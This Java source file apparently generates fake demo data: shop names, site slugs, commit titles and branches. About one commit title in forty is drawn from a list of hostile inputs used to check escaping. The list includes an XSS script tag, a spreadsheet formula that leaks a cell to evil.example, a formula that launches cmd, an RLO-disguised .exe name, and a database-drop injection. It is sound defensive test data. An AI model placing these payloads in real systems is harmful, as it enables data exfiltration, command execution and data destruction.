package dev.reconciler.demo;

import java.util.List;
import java.util.SplittableRandom;

/** Invented names. A few are such as people really type, and break what does not escape them. */
final class Words {
    private static final List<String> HOUSES =
            List.of(
                    "Bramble & Rye",
                    "Kestrel Cartography",
                    "Lumen Theatre",
                    "Pont-Neuf Bakery",
                    "Quiet Harbour Books",
                    "Saltmarsh Brewing",
                    "Tern Observatory",
                    "Vesper Cycles",
                    "Wren & Daughters",
                    "Ångström Labs",
                    "Yarrow Clinic",
                    "Zephyr Rail");
    private static final List<String> FIRST =
            List.of(
                    "amber", "birch", "cobalt", "dapper", "ember", "fern", "gentle", "hazel",
                    "indigo", "juniper", "kelp", "linden", "maple", "nimble", "opal", "pepper",
                    "quill", "russet", "sable", "tidal");
    private static final List<String> SECOND =
            List.of(
                    "docs",
                    "shop",
                    "journal",
                    "status",
                    "handbook",
                    "gallery",
                    "recipes",
                    "atlas",
                    "tickets",
                    "archive");
    private static final List<String> TITLES =
            List.of(
                    "Fix the opening hours",
                    "New header image",
                    "Merge pull request #%d from ines/pricing",
                    "Say how to install it on a train",
                    "Winter menu",
                    "Translate the imprint",
                    "Bump the theme to 3.%d",
                    "Correct a typo in chapter %d",
                    "Add the map of the valley",
                    "Smaller pictures on phones",
                    "Release notes, week %d",
                    "Take the sale down again",
                    "Answer question %d of the FAQ",
                    "Link the annual report");
    private static final List<String> HOSTILE =
            List.of(
                    "<script>alert('deploy')</script>",
                    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                    "\u202Egnp.exe is not a picture\u202C",
                    "\"quoted\", with a comma; and a\nsecond line",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "Ænima ﷽ 🦊 — fix <b>bold</b> & co.",
                    "'; db.deploys.drop(); //");
    private static final List<String> BRANCHES =
            List.of("winter", "maps", "pricing", "new-header", "translations", "rss");

    private Words() {}

    static String house(int account) {
        String name = HOUSES.get(account % HOUSES.size());
        return account < HOUSES.size() ? name : name + " " + (account / HOUSES.size() + 1);
    }

    static String site(int site) {
        String name =
                FIRST.get(site % FIRST.size())
                        + "-"
                        + SECOND.get((site * 7 + site / FIRST.size()) % SECOND.size());
        return site < 40 ? name : name + "-" + site;
    }

    static String title(SplittableRandom chance) {
        return chance.nextInt(40) == 0
                ? hostile(chance.nextInt(HOSTILE.size()))
                : pick(TITLES, chance).formatted(chance.nextInt(1, 300));
    }

    static String hostile(int which) {
        return HOSTILE.get(which % HOSTILE.size());
    }

    static String branch(SplittableRandom chance) {
        return pick(BRANCHES, chance) + "-" + chance.nextInt(1, 1000);
    }

    private static String pick(List<String> words, SplittableRandom chance) {
        return words.get(chance.nextInt(words.size()));
    }
}
